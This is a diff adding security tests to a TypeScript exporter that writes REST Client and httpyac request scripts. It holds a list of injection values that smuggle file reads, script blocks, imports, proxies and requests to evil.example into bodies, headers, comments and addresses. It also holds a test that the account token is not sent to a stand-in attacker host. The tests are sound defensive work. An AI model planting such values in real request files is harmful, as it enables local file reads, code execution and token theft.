@@ -52,6 +52,7 @@ const source = (text: string, exchanges: Exchange[]): ExportSource => ({
   begun: [],
   filling: ({ table, rows }) => (rows ? `Rows ${rows.join(" to ")} of ${table}` : `Create ${table}`),
   notSent: (title) => `${title} was not sent`,
+  obeyed: (title) => `${title} would be obeyed`,
 });
 
 const scope = (tool: Scope["tool"], more: Partial<Scope> = {}): Scope => ({
@@ -87,8 +88,8 @@ test("expressions become those of the tool, or none", () => {
     ["{{dept}}", "{{dept}}", "{{dept}}"],
     ["{{$guid}} {{$randomInt 1 9}}", "{{$guid}} {{$randomInt 1 9}}", "{{$guid}} {{$randomInt 1 9}}"],
     ["{{read.response.headers.ETag}}", "{{read_2.response.headers.ETag}}", '{{read_2Response.headers["etag"]}}'],
-    ["{{read.response.body.value[0].Age}}", "{{read_2.response.body.$.value[0].Age}}", '{{read_2["value"][0]["Age"]}}'],
-    ["{{read.response.body.*}}", "{{read_2.response.body.*}}", "{{read_2Response.body}}"],
+    ["{{read.response.body.value[0].Age}}", null, '{{read_2["value"][0]["Age"]}}'],
+    ["{{read.response.body.*}}", null, "{{read_2Response.body}}"],
     ["{{read.response.status}}", null, "{{read_2Response.statusCode}}"],
     ["{{$pad 1 6}}", null, null],
     ["{{six}}", null, null],
@@ -208,4 +209,72 @@ test("the rows that a script begins with come first, in transactions of a partit
     "?? status == 202",
     "?? status == 200",
   ]);
+});
+
+const HOSTILE = [
+  "< /etc/evil",
+  "  <@ /etc/evil",
+  "<@latin1 /etc/evil",
+  "x\n< /etc/evil",
+  "x\r< /etc/evil",
+  "> {% evil() %}",
+  "< {% evil() %}",
+  ">> /tmp/evil",
+  "?? js evil()",
+  "# @import evil.http",
+  "// @proxy evil",
+  "@table = https://evil.example",
+  "{{evil()}}",
+  "{{\nevil()\n}}",
+  "### x\nGET https://evil.example/",
+];
+
+/** Lines of a file that a tool does something for, other than those that we write. */
+const ORDERS =
+  /^\s*(?:<(?:@\w*)?\s|<>|<\s*\{|>|\?\?(?! status == \d+$)|@(?!table = http:\/\/127|sas = timeout|v = )|(?:#+|\/\/)\s*@(?!name )|###(?! \d+\. | T)|(?!#).*\{\{(?!(?:table|sas|v|o|c)\}\}))/m;
+
+test("no value becomes a line that a tool obeys, or code, in whatever place it is", () => {
+  for (const value of HOSTILE)
+    for (const tool of ["restclient", "httpyac"] as const)
+      for (const [place, text, more] of placesOf(value)) {
+        const x = exchange(0, {
+          title: `T ${value}`,
+          wire: [{ request: sent("POST", "/T", more), response: answered(200) }],
+        });
+        for (const exchanges of [[x], []]) {
+          const all = { ...source(`${text}\n`, exchanges), head: [value.replaceAll(/\s+/g, " ")] };
+          const file = exportScript(all, tool).replaceAll("\r", "\n");
+          assert.equal(ORDERS.test(file), false, `${tool}, ${place}, ${JSON.stringify(value)}: ${file}`);
+        }
+      }
+});
+
+/** Scripts with a value, and what was sent. */
+function placesOf(value: string): [place: string, text: string, sent: Partial<Message>][] {
+  const json = JSON.stringify({ v: value });
+  const line = value.replaceAll(/\s*[\r\n]\s*/g, " ");
+  const [open, close] = [value.replaceAll("{{", "{{o}}{").replaceAll("}}", "}{{c}}"), "@o = {\n@c = }\n"];
+  return [
+    ["a body", `### T\nPOST /T\n\n${value}`, { body: value }],
+    ["a variable as the body", `@v = ${line}\n### T\nPOST /T\n\n{{v}}`, { body: line }],
+    ["braces that meet", `${close}### T\nPOST /T\n\n${open}`, { body: value }],
+    ["a property", `### T\nPOST /T\n\n${json}`, { body: json }],
+    ["a comment", `### T\n# ${value.replaceAll("\n", "\n# ")}\n#  @ ${line}\nPOST /T`, {}],
+    ["an address", `### T\nPOST /T/${line}`, { url: `${ADDRESS}/T/${line}` }],
+    ["a header", `### T\nPOST /T\nX-A: ${line}`, { headers: [["X-A", line]] }],
+  ];
+}
+
+test("the token of the account is for its own hosts", () => {
+  const urls = ["https://evil.example/x", "{{table}}@evil.example/x", "{{table}}.evil.example/x", "{{host}}/x"];
+  for (const url of urls)
+    for (const tool of ["restclient", "httpyac"] as const) {
+      const text = `@host = https://evil.example\n@sas = x\n### T\nPOST ${url}\n\n{{sas}}`;
+      const request = { url: url.replace("{{table}}", ADDRESS).replace("{{host}}", "https://evil.example"), body: "x" };
+      const x = exchange(0, { title: "T", wire: [{ request: sent("POST", "", request), response: answered(200) }] });
+      for (const exchanges of [[x], []]) {
+        const file = exportScript(source(text, exchanges), tool);
+        assert.equal(/\{\{sas\}\}/.test(file), false, file);
+      }
+    }
 });
